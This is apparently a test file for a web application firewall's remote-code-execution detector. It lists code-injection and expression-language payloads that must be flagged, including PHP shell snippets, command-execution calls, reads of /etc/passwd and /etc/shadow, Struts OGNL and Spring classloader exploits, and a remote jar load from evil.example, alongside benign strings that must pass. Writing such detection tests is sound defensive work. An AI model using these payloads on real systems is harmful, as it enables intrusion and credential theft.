// Server-side code injection and expression languages (rce/code.ts, rce/expression.ts).
import { describe, it, expect } from 'vitest';
import { rce } from '../../../../src/waf/detectors/rce.js';
import type { DetectContext } from '../../../../src/waf/types.js';
import { GET, POST_JSON, ctx } from './helpers.js';

const stamp = (v: string, c: DetectContext = GET) => rce.detect(v, c)?.stamp ?? null;

describe('rce: code injection', () => {
  it.each([
    '<?php system($_GET["c"]); ?>',
    "__import__('os').popen('id').read()",
    '__import__("subprocess").getoutput("id")',
    'Runtime.getRuntime().exec("id")',
    "require('child_process').execSync('id')",
    'eval(base64_decode($x))',
    'Eval("Ex"&"ecute(""x"")")',
    'Class.forName("java.lang.Runtime").getMethod("getRuntime").invoke(null).exec("id")',
    'Thread.currentThread().getContextClassLoader().loadClass("java.lang.Runtime")',
    'new java.lang.ProcessBuilder("id").start()',
    'new javax.script.ScriptEngineManager().getEngineByName("nashorn").eval("1")',
    ';phpinfo();',
    'phpinfo()',
    '<?php php_uname(); ?>',
    "open('|id').read",
    'open(F, "| cat /etc/passwd")',
    'IO.readlines("|uname -a")',
    'Kernel.system("id")',
    '%x(id)',
    '%x{uname -a}',
    '%x[cat /etc/passwd]',
    "preg_replace('/.*/e','strtoupper(\"x\")','');",
    "[].constructor.constructor('return process')()",
    "python -c 'import pty;pty.spawn(\"/bin/bash\")'",
    '${@print(md5(31337))}',
    "open('/etc/passwd').read()",
    "require('fs').readFileSync('/etc/shadow')",
    'file_get_contents("/proc/self/environ")',
  ])('%s', (v) => expect(stamp(v)).toMatch(/^rce:(?:code-injection|php-code)$/));

  it.each([
    'The function system() in C runs a shell command; avoid it.',
    'Use Runtime.getRuntime() carefully; it is discouraged.',
    'The Java class java.lang.ProcessBuilder lets you spawn processes.',
    'I checked phpinfo() and the module is loaded',
    're.exec("abc")',
    'const m = /x/.exec(s)',
    "open('/var/data/report.csv').read()",
    "fs.readFileSync('./config.json')",
    'window.open("https://example.com")',
    'Grow revenue by 5%x(2) this year',
    'const s = `${formatDate(d)}`',
    'def run():\n    import os\n    print(os.getcwd())',
  ])('%s passes', (v) => expect(stamp(v, POST_JSON)).toBeNull());
});

describe('rce: expression languages', () => {
  it.each([
    ['%{(#_=\'multipart/form-data\').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):1)}', 'rce:ognl'],
    ['%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"whoami"})).start()}', 'rce:code-injection'],
    ['${@java.lang.Runtime@getRuntime().exec("id")}', 'rce:ognl'],
    ['(#context["xwork.MethodAccessor.denyMethodExecution"]=false)', 'rce:ognl'],
    ['%{#_memberAccess["allowStaticMethodAccess"]=true}', 'rce:ognl'],
    ['(#x=1).(#y=2)', 'rce:ognl'],
    ['class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT', 'rce:spring-classloader'],
    ['class.classLoader.URLs[0]=jar:http://evil.example/x.jar!/', 'rce:spring-classloader'],
    ["class['module']['classLoader'].resources.context.parent.pipeline.first.suffix=.jsp", 'rce:spring-classloader'],
    ['Class.ProtectionDomain.CodeSource.Location', 'rce:spring-classloader'],
    ['${pageContext.request.getSession().setAttribute("admin",true)}', 'rce:expression-language'],
    ['#{facesContext.getExternalContext().redirect("http://evil.example")}', 'rce:expression-language'],
    ['${request.getParameter("x")}', 'rce:expression-language'],
  ])('%s', (v, s) => expect(stamp(v)).toBe(s));

  it('sees the class-loader path as a parameter name too', () => {
    expect(stamp('class.module.classLoader.resources.context.parent.pipeline.first.pattern', ctx('post', 'x', { kind: 'name' }))).toBe('rce:spring-classloader');
  });

  it.each([
    'Contact @john.doe@mastodon.social for details',
    'See ${pageContext.request.contextPath}/static for assets',
    '<c:out value="${sessionScope.user.name}"/>',
    'Our Spring config uses class.name and classLoader concepts',
    'this.getClass().getClassLoader().getResource("x")',
    'val loader = javaClass.classLoader',
    'Foo::class.java.classLoader',
    'email me at a@b.co or c@d.org',
    '#hashtag (#1 = best) and (#2 = ok)',
    'const url = `${request.protocol}://${request.get(\'host\')}${request.originalUrl}`;',
    'puts "Hello #{session.fetch(:user)} from #{request.remote_ip}"',
    '<p>${fn:escapeXml(param.q)}</p>',
    '${applicationScope}',
    '${sessionScope.user.password}',
  ])('%s passes', (v) => expect(stamp(v, POST_JSON)).toBeNull());
});
